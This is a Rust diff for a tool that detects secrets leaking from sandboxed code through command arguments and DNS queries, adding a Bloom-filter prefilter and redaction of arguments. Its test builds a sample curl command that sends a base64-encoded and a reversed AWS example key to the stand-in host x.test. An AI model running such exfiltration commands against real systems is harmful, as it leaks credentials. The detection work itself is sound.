@@ -101,26 +101,122 @@ struct Joined {
     last: Vec<u8>,
 }
 
-pub struct Secrets {
+/// Hashes of every window of every encoding of the secrets, and a prefilter over them.
+struct Index {
     hasher: RandomState,
     /// Window hash → variable, for the case-sensitive encodings (raw, base64…).
     exact: HashMap<u64, u16>,
     /// Window hash (of the lowercased window) → variable, for the case-insensitive ones (hex,
     /// base32, and every encoding lowercased: DNS does not keep case reliably).
     folded: HashMap<u64, u16>,
+    /// Bits set by a rolling hash of each lowercased window: a window of a text whose bit is
+    /// clear is in no map, so only the few others are hashed in full. The rolling hash costs a
+    /// multiply and an add per byte (SipHash of every window cost about 50 ns each); its base
+    /// is random per run, so the watched code cannot aim windows at set bits.
+    bloom: Vec<u64>,
+    base: u64,
+    /// `base` to the power `WINDOW - 1`: what the byte leaving the window weighed.
+    top: u64,
+}
+
+/// 32 KiB: ten secrets set about 8,000 bits, so about 3% of a text's windows are hashed in
+/// full.
+const BLOOM_SHIFT: u32 = 18;
+const BLOOM_BITS: u64 = 1 << BLOOM_SHIFT;
+
+impl Index {
+    fn new() -> Self {
+        let hasher = RandomState::new();
+        let base = hasher.hash_one(0x5ec2e7u64) | 1;
+        let top = (1..WINDOW).fold(1u64, |t, _| t.wrapping_mul(base));
+        Self {
+            hasher,
+            exact: HashMap::new(),
+            folded: HashMap::new(),
+            bloom: Vec::new(),
+            base,
+            top,
+        }
+    }
+
+    fn bit(&self, roll: u64) -> (usize, u64) {
+        let b = roll.wrapping_mul(0x9e37_79b9_7f4a_7c15) >> (64 - BLOOM_SHIFT);
+        ((b / 64) as usize, 1 << (b % 64))
+    }
+
+    fn mark(&mut self, lower: &[u8]) {
+        if self.bloom.is_empty() {
+            self.bloom = vec![0; (BLOOM_BITS / 64) as usize];
+        }
+        let roll = lower.iter().fold(0u64, |h, &b| {
+            h.wrapping_mul(self.base).wrapping_add(b as u64)
+        });
+        let (i, m) = self.bit(roll);
+        self.bloom[i] |= m;
+    }
+
+    /// The variable (its index) whose value, in one of its encodings, some window of `text`
+    /// is part of.
+    fn find(&self, text: &[u8]) -> Option<u16> {
+        if text.len() < WINDOW || self.bloom.is_empty() {
+            return None;
+        }
+        let low = |b: u8| b.to_ascii_lowercase() as u64;
+        let mut roll = text[..WINDOW]
+            .iter()
+            .fold(0u64, |h, &b| h.wrapping_mul(self.base).wrapping_add(low(b)));
+        for start in 0..=text.len() - WINDOW {
+            if start > 0 {
+                roll = roll
+                    .wrapping_sub(low(text[start - 1]).wrapping_mul(self.top))
+                    .wrapping_mul(self.base)
+                    .wrapping_add(low(text[start + WINDOW - 1]));
+            }
+            let (i, m) = self.bit(roll);
+            if self.bloom[i] & m == 0 {
+                continue;
+            }
+            let w = &text[start..start + WINDOW];
+            if let Some(&i) = self.exact.get(&self.hasher.hash_one(w)) {
+                return Some(i);
+            }
+            let lower = w.to_ascii_lowercase();
+            if let Some(&i) = self.folded.get(&self.hasher.hash_one(&lower[..])) {
+                return Some(i);
+            }
+        }
+        None
+    }
+}
+
+pub struct Secrets {
+    index: Index,
     names: Vec<String>,
     joined: HashMap<String, Joined>,
+    /// A replay: the `<redacted:VAR>` markers of the stream name what the live run found
+    /// (the values are not in the stream). A live run never trusts them: the watched code
+    /// could write one.
+    pub trust_markers: bool,
+}
+
+/// How a redacted value starts: `<redacted:VAR>`.
+pub const REDACTED_PREFIX: &str = "<redacted:";
+
+/// The variable a redaction marker at the start of `s` names.
+pub fn redacted_var(s: &str) -> Option<&str> {
+    let rest = s.strip_prefix(REDACTED_PREFIX)?;
+    let var = &rest[..rest.find('>')?];
+    (!var.is_empty() && var.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')).then_some(var)
 }
 
 impl Secrets {
     /// Nothing to look for.
     pub fn none() -> Self {
         Self {
-            hasher: RandomState::new(),
-            exact: HashMap::new(),
-            folded: HashMap::new(),
+            index: Index::new(),
             names: Vec::new(),
             joined: HashMap::new(),
+            trust_markers: false,
         }
     }
 
@@ -174,38 +270,60 @@ impl Secrets {
         for pad in 0..5 {
             folded.push(base32_stable(value, pad));
         }
+        let x = &mut self.index;
         for e in &exact {
             for w in e.windows(WINDOW) {
-                self.exact.insert(self.hasher.hash_one(w), index);
+                x.exact.insert(x.hasher.hash_one(w), index);
                 let lower = w.to_ascii_lowercase();
-                self.folded.insert(self.hasher.hash_one(&lower[..]), index);
+                x.folded.insert(x.hasher.hash_one(&lower[..]), index);
+                x.mark(&lower);
             }
         }
         for e in &folded {
             for w in e.windows(WINDOW) {
                 let lower = w.to_ascii_lowercase();
-                self.folded.insert(self.hasher.hash_one(&lower[..]), index);
+                x.folded.insert(x.hasher.hash_one(&lower[..]), index);
+                x.mark(&lower);
             }
         }
     }
 
     /// The variable whose value (in one of its encodings) some window of `text` is part of.
     fn find(&self, text: &[u8]) -> Option<&str> {
-        for w in text.windows(WINDOW) {
-            if let Some(&i) = self.exact.get(&self.hasher.hash_one(w)) {
-                return Some(&self.names[i as usize]);
-            }
-            let lower = w.to_ascii_lowercase();
-            if let Some(&i) = self.folded.get(&self.hasher.hash_one(&lower[..])) {
-                return Some(&self.names[i as usize]);
+        self.index
+            .find(text)
+            .map(|i| self.names[i as usize].as_str())
+    }
+
+    /// Each argument that carries a secret's value (raw, reversed, hex, base32, base64 or URL
+    /// encoded) replaced by `<redacted:VAR>`, so that no output holds the value. The variable
+    /// of the first one, if any.
+    pub fn redact_args(&self, args: &mut [String]) -> Option<String> {
+        let mut first = None;
+        if self.trust_markers {
+            first = args.iter().find_map(|a| redacted_var(a)).map(str::to_owned);
+        }
+        if self.is_empty() {
+            return first;
+        }
+        for a in args.iter_mut() {
+            if let Some(var) = self.find(a.as_bytes()) {
+                let var = var.to_owned();
+                *a = format!("{REDACTED_PREFIX}{var}>");
+                first.get_or_insert(var);
             }
         }
-        None
+        first
     }
 
     /// The variable whose value `qname` carries by itself (a response's name, which repeats
     /// its query's).
     pub fn check_name(&self, qname: &str, domain: &str) -> Option<String> {
+        if self.trust_markers
+            && let Some(v) = redacted_var(qname)
+        {
+            return Some(v.to_owned());
+        }
         if self.is_empty() {
             return None;
         }
@@ -217,6 +335,11 @@ impl Secrets {
     /// A DNS query for `qname` whose registrable domain is `domain`: the variable whose value
     /// it carries, alone or joined with the labels earlier queries to `domain` carried.
     pub fn check_query(&mut self, qname: &str, domain: &str) -> Option<String> {
+        if self.trust_markers
+            && let Some(v) = redacted_var(qname)
+        {
+            return Some(v.to_owned());
+        }
         if self.is_empty() {
             return None;
         }
@@ -241,7 +364,9 @@ impl Secrets {
         for (tail, new) in [(&mut j.all, &all), (&mut j.first, &first)] {
             tail.extend_from_slice(new);
             if found.is_none() && tail.len() >= WINDOW {
-                found = Self::find_in(&self.hasher, &self.exact, &self.folded, tail)
+                found = self
+                    .index
+                    .find(tail)
                     .map(|i| self.names[i as usize].clone());
             }
             // Keep what a window ending in the next query may start with.
@@ -249,24 +374,6 @@ impl Secrets {
             tail.drain(..tail.len() - keep);
         }
         found
-    }
-
-    fn find_in(
-        hasher: &RandomState,
-        exact: &HashMap<u64, u16>,
-        folded: &HashMap<u64, u16>,
-        text: &[u8],
-    ) -> Option<u16> {
-        for w in text.windows(WINDOW) {
-            if let Some(&i) = exact.get(&hasher.hash_one(w)) {
-                return Some(i);
-            }
-            let lower = w.to_ascii_lowercase();
-            if let Some(&i) = folded.get(&hasher.hash_one(&lower[..])) {
-                return Some(i);
-            }
-        }
-        None
     }
 }
 
@@ -363,6 +470,50 @@ mod tests {
     use super::*;
 
     const KEY: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
+
+    #[test]
+    fn arguments_carrying_a_secret_are_redacted_and_markers_read_only_in_a_replay() {
+        let s = secrets();
+        let b64 = base64_stable(KEY.as_bytes(), 0, false);
+        let mut args: Vec<String> = vec![
+            "curl".into(),
+            "-d".into(),
+            format!("k={}", String::from_utf8_lossy(&b64)),
+            format!("https://x.test/{}", KEY.chars().rev().collect::<String>()),
+            "https://x.test/plain".into(),
+        ];
+        assert_eq!(
+            s.redact_args(&mut args).as_deref(),
+            Some("AWS_SECRET_ACCESS_KEY")
+        );
+        assert_eq!(
+            args,
+            [
+                "curl",
+                "-d",
+                "<redacted:AWS_SECRET_ACCESS_KEY>",
+                "<redacted:AWS_SECRET_ACCESS_KEY>",
+                "https://x.test/plain"
+            ]
+        );
+        // A live run does not take the watched code's word for it.
+        let mut forged = vec!["curl".to_owned(), "<redacted:GITHUB_TOKEN>".to_owned()];
+        assert_eq!(s.redact_args(&mut forged), None);
+        let mut replay = Secrets::none();
+        replay.trust_markers = true;
+        assert_eq!(
+            replay.redact_args(&mut forged).as_deref(),
+            Some("GITHUB_TOKEN")
+        );
+        assert_eq!(
+            replay
+                .check_name("<redacted:GITHUB_TOKEN>.x.test", "x.test")
+                .as_deref(),
+            Some("GITHUB_TOKEN")
+        );
+        assert_eq!(redacted_var("<redacted:A B>"), None);
+        assert_eq!(redacted_var("<redacted:>"), None);
+    }
 
     fn secrets() -> Secrets {
         Secrets::from_vars(
